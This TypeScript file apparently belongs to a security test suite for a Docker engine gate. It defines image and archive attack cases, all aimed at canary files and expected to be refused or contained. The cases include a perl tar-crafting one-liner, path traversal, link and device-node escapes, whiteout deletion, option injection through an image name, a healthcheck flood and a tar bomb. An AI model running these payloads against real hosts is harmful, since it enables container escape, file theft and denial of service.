import { type Attack, gotThrough } from '../attack.ts';

const image = (
  id: string,
  title: string,
  effect: string,
  script: string,
  extra: Partial<Attack> = {},
): Attack => ({
  ...{ id, from: 'bench', title, expected: 'refused', effect, script, ...extra },
});
const changed = 'a canary file of the engine is read or changed';

/** Writes an archive of one entry with perl: name, type, link target, content. tar itself would tidy the names. */
const tar = `perl -e 'sub e { my ($n, $t, $l, $c) = @_; my $h = pack("a100 a8 a8 a8 a12 a12 A8 a1 a100 a6 a2 a32 a32 a8 a8", $n, "0000644", "0000000", "0000000", sprintf("%011o", length $c), "00000000000", "", $t, $l, "ustar", "00", "root", "root", "0000000", "0000000"); substr($h, 148, 8) = sprintf("%06o\\0 ", unpack("%32C*", $h)); print $h . "\\0" x (512 - length $h), $c, "\\0" x (-length($c) % 512) } my @a = map { s/\\\\n/\\n/gr } @ARGV; while (@a) { e(splice @a, 0, 4) } print "\\0" x 1024' --`;
const loaded = (entries: string, layer: string) => `${tar} ${layer} > layer.tar
{ ${tar} manifest.json 0 '' '[{"Config":"c.json","RepoTags":["loaded:1"],"Layers":["layer.tar"]}]' c.json 0 '' "{\\"architecture\\":\\"amd64\\",\\"os\\":\\"linux\\",\\"config\\":{},\\"rootfs\\":{\\"type\\":\\"layers\\",\\"diff_ids\\":[\\"sha256:$(sha256sum layer.tar | cut -d' ' -f1)\\"]}}" ${entries} layer.tar 0 '' "" | head -c -1536; tar -c layer.tar; } > evil.tar
docker load -i evil.tar; docker create --name loaded1 loaded:1 x && docker export loaded1 | tar -xO 2>/dev/null | head -c 3000; docker rm -f loaded1`;

/** Images and archives as a way in. */
export const imageAttacks: Attack[] = [
  image(
    'import-url',
    'an image that the engine fetches',
    'the image exists',
    'docker import http://127.0.0.1:$ENGINE_PORT/x $ID',
  ),
  image(
    'import-dotdot',
    'an archive that unpacks above its root',
    changed,
    `${tar} ../../../../../../canary/taken 0 '' x /canary/taken2 0 '' x | docker import - imported1`,
    { expected: 'contained' },
  ),
  image(
    'import-link',
    'an archive that unpacks through a link of its own',
    changed,
    `${tar} out 2 / '' out/canary/taken 0 '' x up 2 ../../../../../../../.. '' up/canary/secret 0 '' x | docker import - imported2`,
    { expected: 'contained' },
  ),
  image(
    'import-hard-link',
    'an archive with a hard link out of its root',
    changed,
    `${tar} got 1 ../../../../../../canary/secret '' got2 1 /canary/secret '' | docker import - imported3 && docker create --name imported3 imported3 x && docker export imported3 | tar -xO; docker rm -f imported3`,
    { expected: 'contained' },
  ),
  image(
    'import-device',
    'an archive with a device node',
    'the disk is read',
    `tar -c --files-from /dev/null > d.tar; ${tar} disk 4 '' '' | docker import - imported4 && docker rm -f imported4; docker run --rm imported4 x`,
    { expected: 'contained' },
  ),
  image(
    'load-dotdot',
    'a saved image whose layer unpacks above its root',
    changed,
    loaded('', `../../../../../../canary/taken 0 '' x`),
    { expected: 'contained' },
  ),
  image(
    'load-whiteout',
    'a layer that whites out what is above its root',
    'a canary file is gone',
    loaded(
      '',
      `../../../../../../canary/.wh.secret 0 '' '' .wh..wh..opq 0 '' '' .wh.. 0 '' '' canary/.wh.secret 0 '' ''`,
    ),
    { expected: 'contained' },
  ),
  image(
    'load-layer-link',
    'a saved image whose layer is a link to a file of the engine',
    'the file is in the image',
    `ln -sfn /canary/secret layer.tar; echo '[{"Config":"c.json","RepoTags":["loaded:2"],"Layers":["layer.tar"]}]' > manifest.json; echo '{"architecture":"amd64","os":"linux","rootfs":{"type":"layers","diff_ids":["sha256:0000000000000000000000000000000000000000000000000000000000000000"]}}' > c.json; tar -c manifest.json c.json layer.tar | docker load; ln -sfn /canary/secret c.json; tar -c manifest.json c.json layer.tar | docker load`,
  ),
  image(
    'load-layer-path',
    'a saved image whose manifest names a path of the engine',
    'the file is in the image',
    `echo '[{"Config":"../../../../../canary/secret","RepoTags":["loaded:3"],"Layers":["../../../../../canary/secret"]}]' > manifest.json; tar -c manifest.json | docker load`,
  ),
  image(
    'image-volumes',
    'an image whose volumes are paths of the engine',
    changed,
    `docker create --name plain1 $IMG x; docker commit -c 'VOLUME ["/canary:/host", "/../../canary"]' plain1 volumes1; docker run --rm volumes1 sh -c 'cat /host/secret /canary/secret; touch /canary/taken'`,
    { expected: 'contained' },
  ),
  image(
    'image-healthcheck',
    'an image that checks its health a thousand times a second',
    'the gate answers nobody afterwards',
    `docker create --name plain2 $IMG x; docker commit -c 'HEALTHCHECK --interval=1ms --timeout=1ms CMD true' plain2 health1; docker run -d --name health1 health1 sleep 5; sleep 1; docker version >/dev/null || ${gotThrough}; docker rm -f health1`,
    { expected: 'contained' },
  ),
  image(
    'image-name',
    'an image or a container whose name is an option',
    'the option counts',
    `docker tag $IMG --privileged; docker run --name=--privileged $IMG true; docker ps -a --format '{{.Names}}' | grep -e '^-' && ${gotThrough}`,
  ),
  image(
    'tar-bomb',
    'an archive that is a thousand times larger when unpacked',
    'the gate answers nobody afterwards',
    `perl -e 'print "x" x 400000000' | gzip -1 > bomb.gz; { head -c 0 /dev/null; gzip -dc bomb.gz; } | timeout 20 docker import - bombed >/dev/null 2>&1; rm -f bomb.gz; docker version >/dev/null || ${gotThrough}`,
    { expected: 'contained' },
  ),
];
